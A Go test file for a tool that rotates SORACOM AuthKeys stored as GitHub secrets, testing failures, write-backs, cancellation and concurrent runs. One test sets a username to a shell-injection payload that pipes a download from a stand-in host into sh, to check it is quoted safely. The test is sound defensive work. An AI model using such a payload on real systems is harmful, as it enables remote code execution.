package authkeyrotation_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/soracom-credentials-action/soracom-credentials-action/internal/authkeyrotation"
)

// quick runs with updated_at in milliseconds, so a write-back need not wait a second.
var quick = authkeyrotation.Options{Resolution: time.Millisecond}

type want struct {
	outcome authkeyrotation.Outcome
	err     string // substring of the error; "" for none
	hold    string // the AuthKey id both secrets hold
	keys    []string
	calls   []string // substrings that must appear in the calls, in order
	warning string
}

func TestRotation(t *testing.T) {
	tests := []struct {
		name   string
		maxAge time.Duration
		setup  func(w *world)
		want   want
	}{
		{name: "happy path: generate, verify, recheck, key then id, confirm, delete the old key",
			want: want{outcome: authkeyrotation.Rotated, hold: "keyId-new1", keys: []string{"keyId-new1"},
				calls: []string{"prepare", "generate", "verify", "write KEY=secret-new", "write ID=keyId-new1", "confirm KEY,ID", "delete keyId-old"}}},
		{name: "not due: nothing generated", maxAge: 200 * 24 * time.Hour,
			want: want{outcome: authkeyrotation.NotDue, hold: "keyId-old", keys: []string{"keyId-old"}}},
		{name: "due by age", maxAge: 90 * 24 * time.Hour,
			want: want{outcome: authkeyrotation.Rotated, hold: "keyId-new1", keys: []string{"keyId-new1"}}},
		{name: "a token that cannot read the secrets fails before a key is generated",
			setup: func(w *world) { w.fail["prepare"] = errors.New("403 Resource not accessible by integration") },
			want:  want{outcome: authkeyrotation.Failed, err: "Nothing was changed", hold: "keyId-old", keys: []string{"keyId-old"}}},
		{name: "generate refused",
			setup: func(w *world) { w.fail["generate"] = answered("403") },
			want:  want{outcome: authkeyrotation.Failed, err: "Nothing was changed", hold: "keyId-old", keys: []string{"keyId-old"}}},
		{name: "generate unanswered names the key that may exist",
			setup: func(w *world) { w.fail["generate"] = inDoubt("timeout") },
			want:  want{outcome: authkeyrotation.Failed, err: "may have generated an AuthKey", hold: "keyId-old", keys: []string{"keyId-old"}}},
		{name: "verify fails: the new key is deleted",
			setup: func(w *world) { w.fail["verify"] = errors.New("401") },
			want:  want{outcome: authkeyrotation.Failed, err: "The new AuthKey keyId-new1 was deleted", hold: "keyId-old", keys: []string{"keyId-old"}}},
		{name: "first write refused: the new key is deleted, nothing written back",
			setup: func(w *world) { w.fail["write KEY=secret-new"] = answered("422") },
			want: want{outcome: authkeyrotation.Failed, err: "Nothing was changed", hold: "keyId-old", keys: []string{"keyId-old"},
				calls: []string{"write KEY=secret-new", "delete keyId-new1"}}},
		{name: "first write unanswered: the old value is written back, both keys kept as the write may still land",
			setup: func(w *world) { w.fail["write KEY=secret-new"] = inDoubt("EOF") },
			want: want{outcome: authkeyrotation.Failed, err: "may still land after the write-back, so both AuthKeys are kept", keys: []string{"keyId-new1", "keyId-old"},
				calls: []string{"write KEY=secret-new", "confirm KEY", "write KEY=secret-old", "confirm KEY"}}},
		{name: "second write refused: the key's secret is written back and confirmed, the new key deleted",
			setup: func(w *world) { w.fail["write ID=keyId-new1"] = answered("500") },
			want: want{outcome: authkeyrotation.Failed, err: "old values were written back, and their updated_at confirms it", hold: "keyId-old", keys: []string{"keyId-old"},
				calls: []string{"write ID=keyId-new1", "confirm KEY", "write KEY=secret-old", "confirm KEY", "delete keyId-new1"}}},
		{name: "write-back not confirmed: both keys kept, the secrets named as holding the old one",
			setup: func(w *world) {
				w.fail["write ID=keyId-new1"] = answered("500")
				w.hook["write KEY=secret-old"] = func() { w.fail["confirm KEY"] = answered("502") }
			},
			want: want{outcome: authkeyrotation.Failed, err: "the write-back is not confirmed", hold: "keyId-old", keys: []string{"keyId-new1", "keyId-old"}}},
		{name: "write-back fails: both keys kept, the fix command sets the id",
			setup: func(w *world) {
				w.fail["write ID=keyId-new1"] = answered("500")
				w.fail["write KEY=secret-old"] = answered("500")
			},
			want: want{outcome: authkeyrotation.Failed, err: "gh secret set ID --body keyId-new1", keys: []string{"keyId-new1", "keyId-old"}}},
		{name: "confirm fails: both written back",
			setup: func(w *world) { w.fail["confirm KEY,ID"] = errors.New("404") },
			want: want{outcome: authkeyrotation.Failed, err: "old values were written back", hold: "keyId-old", keys: []string{"keyId-old"},
				calls: []string{"confirm KEY,ID", "write KEY=secret-old", "write ID=keyId-old", "confirm KEY,ID", "delete keyId-new1"}}},
		{name: "old key not deleted: rotated with a warning",
			setup: func(w *world) { w.fail["delete keyId-old"] = answered("500") },
			want:  want{outcome: authkeyrotation.Rotated, hold: "keyId-new1", keys: []string{"keyId-new1", "keyId-old"}, warning: "could not be deleted"}},
		{name: "old key's deletion unanswered: rotated with a warning that it may be deleted",
			setup: func(w *world) { w.fail["delete keyId-old"] = inDoubt("EOF") },
			want:  want{outcome: authkeyrotation.Rotated, hold: "keyId-new1", keys: []string{"keyId-new1", "keyId-old"}, warning: "may be deleted or still active"}},
		{name: "a newer key at the recheck: stand back, own key deleted",
			setup: func(w *world) {
				w.hook["list"] = func() { w.keys["keyId-other"], w.created["keyId-other"] = "secret-other", t0.Add(time.Hour) }
			},
			want: want{outcome: authkeyrotation.StoodBack, hold: "keyId-old", keys: []string{"keyId-old", "keyId-other"}}},
		{name: "a newer key at the start (max age): stand back before generating", maxAge: time.Hour,
			setup: func(w *world) { w.keys["keyId-other"], w.created["keyId-other"] = "secret-other", t0 },
			want:  want{outcome: authkeyrotation.StoodBack, hold: "keyId-old", keys: []string{"keyId-old", "keyId-other"}}},
		{name: "the key in use is gone at the start (another run rotated): stand back; what the secrets hold is not this run's to say", maxAge: time.Hour,
			setup: func(w *world) {
				w.keys = map[string]string{"keyId-other": "secret-other"}
				w.created = map[string]time.Time{"keyId-other": t0}
				w.secrets = map[string]string{"KEY": "secret-other", "ID": "keyId-other"}
			},
			want: want{outcome: authkeyrotation.StoodBack, hold: "", keys: []string{"keyId-other"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld()
			if tt.setup != nil {
				tt.setup(w)
			}
			p := plan
			p.MaxAge = tt.maxAge
			res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, p, quick)
			check(t, w, res, err, tt.want)
		})
	}
}

func check(t *testing.T, w *world, res authkeyrotation.Result, err error, want want) {
	t.Helper()
	if res.Outcome != want.outcome {
		t.Errorf("outcome %s (%s), want %s; err %v", res.Outcome, res.Reason, want.outcome, err)
	}
	switch {
	case want.err == "" && err != nil:
		t.Errorf("err %v", err)
	case want.err != "" && (err == nil || !strings.Contains(err.Error(), want.err)):
		t.Errorf("err %v, want one saying %q", err, want.err)
	}
	if res.SecretsHold != want.hold {
		t.Errorf("SecretsHold %q, want %q", res.SecretsHold, want.hold)
	}
	if want.hold != "" && (!w.consistent() || w.secrets["ID"] != want.hold) {
		t.Errorf("secrets %v do not form the working AuthKey %s (keys %v)", w.secrets, want.hold, w.keys)
	}
	if got := keyIDs(w); strings.Join(got, ",") != strings.Join(want.keys, ",") {
		t.Errorf("AuthKeys left %v, want %v", got, want.keys)
	}
	checkCalls(t, w.calls, want.calls)
	if want.warning != "" && (len(res.Warnings) == 0 || !strings.Contains(res.Warnings[0], want.warning)) {
		t.Errorf("warnings %v, want one saying %q", res.Warnings, want.warning)
	}
}

func checkCalls(t *testing.T, calls, want []string) {
	t.Helper()
	i := 0
	for _, c := range calls {
		if i < len(want) && c == want[i] {
			i++
		}
	}
	if i < len(want) {
		t.Errorf("calls %v, want %v in this order", calls, want)
	}
}

func keyIDs(w *world) []string {
	var ids []string
	for id := range w.keys {
		ids = append(ids, id)
	}
	slices.Sort(ids)
	return ids
}

// The commands a person is told to run carry the SAM user name SORACOM answered: it is
// one word of the command whatever it holds, never a command of its own.
func TestAUserNameFromSORACOMIsOneWordOfTheCommand(t *testing.T) {
	w := newWorld()
	w.fail["delete keyId-old"] = answered("500")
	p := plan
	p.UserName = "ci $(curl e.test|sh)"
	res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, p, quick)
	want := "soracom users auth-keys delete --user-name 'ci $(curl e.test|sh)' --auth-key-id keyId-old"
	if err != nil || len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], want) {
		t.Errorf("err %v, warnings %q; want one naming %s", err, res.Warnings, want)
	}
}

// A run that stands back at the recheck says what it did, not what the secrets hold:
// another run is writing them, or has, and the key it started with may be gone.
func TestStandingBackClaimsNothingAboutTheSecrets(t *testing.T) {
	w := newWorld()
	w.hook["list"] = func() {
		delete(w.keys, "keyId-old")
		w.keys["keyId-other"], w.created["keyId-other"] = "secret-other", t0.Add(time.Hour)
	}
	res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, plan, quick)
	if err != nil || res.Outcome != authkeyrotation.StoodBack {
		t.Fatalf("outcome %s, err %v", res.Outcome, err)
	}
	for _, want := range []string{"keyId-old this run started with is no longer listed", "This run wrote no secret", "The new AuthKey keyId-new1 was deleted"} {
		if !strings.Contains(res.Reason, want) {
			t.Errorf("reason %q does not say %q", res.Reason, want)
		}
	}
	if strings.Contains(res.Reason, "still works") || res.SecretsHold != "" {
		t.Errorf("reason %q, SecretsHold %q: a claim about the secrets this run did not check", res.Reason, res.SecretsHold)
	}
}

// TestCancellationAtEachStepLeavesOneWorkingAuthKey cancels the run as each step starts:
// whatever the step, the secrets end on one AuthKey that exists.
func TestCancellationAtEachStepLeavesOneWorkingAuthKey(t *testing.T) {
	for _, at := range []string{"prepare", "generate", "verify", "list", "write KEY=secret-new", "write ID=keyId-new1", "confirm KEY,ID", "delete keyId-old"} {
		t.Run(at, func(t *testing.T) {
			w := newWorld()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			w.hook[at] = cancel
			res, err := authkeyrotation.Run(ctx, keys{w}, secrets{w}, plan, authkeyrotation.Options{Grace: time.Second, Resolution: time.Millisecond})
			if !w.consistent() {
				t.Fatalf("secrets %v do not form a working AuthKey (keys %v); outcome %s, err %v", w.secrets, w.keys, res.Outcome, err)
			}
			if res.SecretsHold != w.secrets["ID"] {
				t.Errorf("the result says the secrets hold %q, they hold %q", res.SecretsHold, w.secrets["ID"])
			}
			if err != nil && !strings.Contains(err.Error(), "cancelled") {
				t.Errorf("err %v does not say the job was cancelled", err)
			}
		})
	}
}

// TestTwoOverlappingRunsEndOnOneWorkingAuthKey interleaves two runs that started with
// the same AuthKey at every point of the first one: the secrets always end on one
// AuthKey that exists, and at most one run rotates.
func TestTwoOverlappingRunsEndOnOneWorkingAuthKey(t *testing.T) {
	for _, at := range []string{"generate", "verify", "list", "write KEY=secret-new", "write ID=keyId-new1", "confirm KEY,ID", "delete keyId-old"} {
		t.Run("second run starts at "+at, func(t *testing.T) {
			w := newWorld()
			var second authkeyrotation.Result
			var secondErr error
			w.hook[at] = func() {
				second, secondErr = authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, plan, quick)
			}
			first, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, plan, quick)
			if !w.consistent() {
				t.Fatalf("secrets %v do not form a working AuthKey (keys %v); first %s %v, second %s %v", w.secrets, w.keys, first.Outcome, err, second.Outcome, secondErr)
			}
			if first.Outcome == authkeyrotation.Rotated && second.Outcome == authkeyrotation.Rotated {
				t.Errorf("both runs rotated")
			}
			if len(w.keys) != 1 {
				t.Errorf("AuthKeys left %v, want one", w.keys)
			}
		})
	}
}

// A write of the new value that got no answer may land after the run wrote the old one
// back. The new AuthKey is kept then, and the error names what each secret may hold and
// the fix; applying the fix it names leaves one working AuthKey, whether or not the
// write landed.
func TestAWriteThatLandsAfterTheWriteBackNeverLocksOut(t *testing.T) {
	tests := []struct {
		name, write string
		says        []string
	}{
		{"the key's secret", "write KEY=secret-new", []string{
			"KEY holds the old AuthKey secret, unless the unanswered write lands after the write-back",
			"ID holds the old id keyId-old", "Run the workflow: if it authenticates"}},
		{"the id", "write ID=keyId-new1", []string{
			"KEY holds the old AuthKey secret", "ID holds the old id keyId-old, unless the unanswered write lands after the write-back",
			"To fix, run: gh secret set ID --body keyId-old"}},
	}
	for _, tt := range tests {
		for _, lands := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s, landing %t", tt.name, lands), func(t *testing.T) {
				w := newWorld()
				w.fail[tt.write], w.late[tt.write] = inDoubt("context canceled"), true
				res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, plan, quick)
				if lands {
					w.land()
				}
				checkLateLanding(t, w, res, err, tt.says)
			})
		}
	}
}

func checkLateLanding(t *testing.T, w *world, res authkeyrotation.Result, err error, says []string) {
	t.Helper()
	if err == nil || res.SecretsHold != "" || len(w.keys) != 2 {
		t.Fatalf("err %v, SecretsHold %q, keys %v: want a failure that keeps both AuthKeys", err, res.SecretsHold, w.keys)
	}
	for _, s := range says {
		if !strings.Contains(err.Error(), s) {
			t.Errorf("error does not say %q:\n%v", s, err)
		}
	}
	applyFix(t, w, err.Error())
	if !w.consistent() {
		t.Errorf("after the fix the error names, the secrets %v do not form a working AuthKey (keys %v)", w.secrets, w.keys)
	}
}

// applyFix does what the error's fix says: the gh command, picked by whether the
// secrets authenticate when the fix depends on it.
func applyFix(t *testing.T, w *world, msg string) {
	t.Helper()
	cmd := msg
	if i := strings.Index(msg, "If it cannot authenticate"); i >= 0 {
		if w.consistent() {
			return
		}
		cmd = msg[i:]
	}
	_, after, ok := strings.Cut(cmd, "gh secret set ID --body ")
	if !ok {
		t.Fatalf("no fix command in %q", msg)
	}
	id, _, _ := strings.Cut(after, " ")
	w.secrets["ID"] = strings.TrimRight(id, ",.")
}

// The secrets named as holding the old AuthKey after a write-back rest on GitHub's
// answers; the result says when updated_at did not confirm them.
func TestAnUnconfirmedWriteBackIsSaidToBe(t *testing.T) {
	for _, confirmFails := range []bool{false, true} {
		w := newWorld()
		w.fail["write ID=keyId-new1"] = answered("500")
		if confirmFails {
			w.hook["write KEY=secret-old"] = func() { w.fail["confirm KEY"] = answered("502") }
		}
		res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, plan, quick)
		if err == nil || res.SecretsHold != "keyId-old" || res.HoldUnconfirmed != confirmFails {
			t.Errorf("confirm fails %v: hold %q, unconfirmed %v, err %v", confirmFails, res.SecretsHold, res.HoldUnconfirmed, err)
		}
	}
}
